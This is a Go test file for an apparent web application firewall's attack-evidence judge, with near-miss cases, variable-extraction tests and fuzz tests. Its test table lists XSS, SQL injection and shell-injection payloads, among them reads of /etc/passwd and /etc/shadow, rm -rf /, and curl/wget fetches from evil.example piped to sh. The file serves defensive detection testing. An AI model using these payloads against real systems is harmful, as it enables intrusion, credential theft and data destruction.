package explain

import (
	"strings"
	"testing"

	"github.com/portcullis-waf/portcullis/audit"
)

// evidenceCases are values with the class they are judged for and whether
// they are evidence of an attack; the near misses matter most: prose that
// mentions select, union, <script> or rm -rf, code in a forum post, names
// with apostrophes.
var evidenceCases = []struct {
	class, value string
	attack       bool
	reason       string // part of the reason, for attacks
}{
	{ClassXSS, `<img src=x onerror=alert(1)>`, true, "<img> with an onerror event handler"},
	{ClassXSS, `<script>alert(1)</script>`, true, "<script> element"},
	{ClassXSS, `"><svg/onload=alert(1)>`, true, "<svg> with an onload event handler"},
	{ClassXSS, `<a href="javascript:alert(1)">x</a>`, true, "<a href> with a javascript: URL"},
	{ClassXSS, `<a href=" jav&#x09;ascript:alert(1)">x</a>`, true, "javascript: URL"},
	{ClassXSS, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, true, "srcdoc"},
	{ClassXSS, `<form action="vbscript:msgbox(1)"><button>go</button></form>`, true, "vbscript: URL"},
	{ClassXSS, "javascript:alert(document.domain)", true, "a javascript: URL"},
	{ClassXSS, "In HTML you write <script src=app.js></script> at the end of body", true, "<script> element"},
	{ClassXSS, `" onmouseover="alert(1)`, true, `leaves an attribute value ("): <x> with an onmouseover event handler`},
	{ClassXSS, `x' autofocus onfocus='alert(1)`, true, "onfocus"},
	{ClassXSS, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, true, "<meta> refresh"},
	{ClassXSS, `He said "hello" and left`, false, ""},
	{ClassXSS, `<p style="color:red">red</p><iframe src="https://video.example/embed/1"></iframe>`, false, ""},
	{ClassXSS, "set onclick=go() in your template", false, ""},
	{ClassXSS, "Use <b>bold</b> and <i>italics</i> in comments", false, ""},
	{ClassXSS, `<a href="https://example.com/onerror">docs</a>`, false, ""},
	{ClassXSS, "if a < b and c > d then onerror=1", false, ""},
	{ClassXSS, "read about javascript: it is a language", false, ""},
	{ClassXSS, `<img src="cat.png" alt="a cat">`, false, ""},
	{ClassSQLi, "1' UNION SELECT password FROM users --", true, "fingerprint sUEnk"},
	{ClassSQLi, "Robert'); DROP TABLE Students;--", true, "libinjection"},
	{ClassSQLi, "1 OR 1=1", true, "fingerprint 1&1"},
	{ClassSQLi, "admin'--", true, "fingerprint sc"},
	{ClassSQLi, "We had a union meeting; select members from each team where possible", false, ""},
	{ClassSQLi, "I think O'Reilly's book on select statements and union types is the best", false, ""},
	{ClassSQLi, "O'Reilly", false, ""},
	{ClassSQLi, "Mr. O'Neil & co", false, ""},
	{ClassSQLi, "order by price desc", false, ""},
	{ClassShell, "127.0.0.1; cat /etc/passwd", true, "a second shell command after the argument: cat /etc/passwd"},
	{ClassShell, ";cat /etc/shadow", true, "cat /etc/shadow"},
	{ClassShell, "x|id", true, "id"},
	{ClassShell, "a.txt && wget http://evil.example/x", true, "wget"},
	{ClassShell, "$(curl http://evil.example/x.sh|sh)", true, "command substitution"},
	{ClassShell, "`id`", true, "command substitution"},
	{ClassShell, "x'; rm -rf / #", true, "rm -rf /"},
	{ClassShell, `x"; id; echo "`, true, "id"},
	{ClassShell, "to see users run ; cat /etc/passwd | grep bash", false, ""},
	{ClassShell, "never type rm -rf / on a server; it deletes everything", false, ""},
	{ClassShell, "Tom & Jerry", false, ""},
	{ClassShell, "don't do that", false, ""},
	{ClassShell, "report.pdf", false, ""},
}

func TestJudge(t *testing.T) {
	for _, tc := range evidenceCases {
		t.Run(tc.class+"/"+tc.value, func(t *testing.T) {
			reason, attack := judge(tc.class, tc.value)
			if attack != tc.attack || !strings.Contains(reason, tc.reason) {
				t.Errorf("judge(%s, %q) = %q, %v; want attack %v with %q", tc.class, tc.value, reason, attack, tc.attack, tc.reason)
			}
		})
	}
}

func TestVariableValues(t *testing.T) {
	e := &audit.Entry{
		URI: "/p?q=%3Cimg+src%3Dx%3E&q=two&empty=",
		Headers: map[string][]string{
			"Content-Type": {"application/json; charset=utf-8"},
			"User-Agent":   {"curl/8"},
			"Cookie":       {"a=1; b=2"},
		},
		RequestBody: `{"a":{"b":"deep","list":["zero",{"c":"one"}]},"n":42}`,
	}
	form := *e
	form.Headers = map[string][]string{"Content-Type": {"application/x-www-form-urlencoded"}}
	form.RequestBody = "comment=hello+world&q=body"
	for _, tc := range []struct {
		e        *audit.Entry
		variable string
		want     string
	}{
		{e, "ARGS:q", "<img src=x>|two"},
		{e, "ARGS_GET:q", "<img src=x>|two"},
		{e, "ARGS_POST:q", ""},
		{e, "ARGS:empty", ""},
		{e, "ARGS:json.a.b", "deep"},
		{e, "ARGS_POST:json.a.list.1.c", "one"},
		{e, "ARGS:json.a.list.7", ""},
		{e, "ARGS:json.n", "42"},
		{e, "ARGS_NAMES:q", "q"},
		{e, "REQUEST_HEADERS:user-agent", "curl/8"},
		{e, "REQUEST_COOKIES:b", "2"},
		{e, "REQUEST_FILENAME", "/p"},
		{e, "TX:0", ""},
		{&form, "ARGS:comment", "hello world"},
		{&form, "ARGS:q", "<img src=x>|two|body"},
		{&form, "ARGS_POST:q", "body"},
	} {
		if got := strings.Join(variableValues(tc.e, tc.variable), "|"); got != tc.want {
			t.Errorf("%s: %q, want %q", tc.variable, got, tc.want)
		}
	}
}

// FuzzJudge: the judges parse attacker-controlled values; none may panic,
// and each answers for any input.
func FuzzJudge(f *testing.F) {
	for _, tc := range evidenceCases {
		f.Add(tc.value)
	}
	f.Fuzz(func(t *testing.T, v string) {
		for _, c := range []string{ClassXSS, ClassSQLi, ClassShell} {
			if reason, attack := judge(c, v); attack == (reason == "") {
				t.Fatalf("judge(%s, %q) = %q, %v", c, v, reason, attack)
			}
		}
	})
}

// FuzzVariableValues: records hold attacker-controlled URIs, headers and
// bodies.
func FuzzVariableValues(f *testing.F) {
	f.Add("/p?q=1&r=%zz", "application/json", `{"a":[1,{"b":"x"}]}`, "ARGS:json.a.1.b")
	f.Add("/p", "application/x-www-form-urlencoded", "a=1&a=%", "ARGS_POST:a")
	f.Add("/p", "text/plain", "", "REQUEST_COOKIES:x")
	f.Fuzz(func(t *testing.T, uri, contentType, body, variable string) {
		e := &audit.Entry{URI: uri, RequestBody: body, Headers: map[string][]string{"Content-Type": {contentType}, "Cookie": {body}}}
		for _, v := range variableValues(e, variable) {
			if v == "" {
				t.Fatalf("empty value for %q", variable)
			}
		}
	})
}

func TestScopePath(t *testing.T) {
	for _, tc := range []struct {
		uri, prefix, exact string
		note               bool
	}{
		{"/", "", "/", false},
		{"/?q=1", "", "/", false},
		{"/posts/42/comments", "/posts/42/comments", "", false},
		{"/search?q=%3Cb%3E", "/search", "", false},
		{"/caf%C3%A9/menu", "/café/menu", "", false},
		{"/docs/my%20file.txt", "/docs/", "", true},
		{"/a%22b", "/", "", true},
	} {
		prefix, exact, note := scopePath(tc.uri)
		if prefix != tc.prefix || exact != tc.exact || (note != "") != tc.note {
			t.Errorf("scopePath(%q) = %q, %q, %q; want %q, %q, note %v", tc.uri, prefix, exact, note, tc.prefix, tc.exact, tc.note)
		}
	}
}
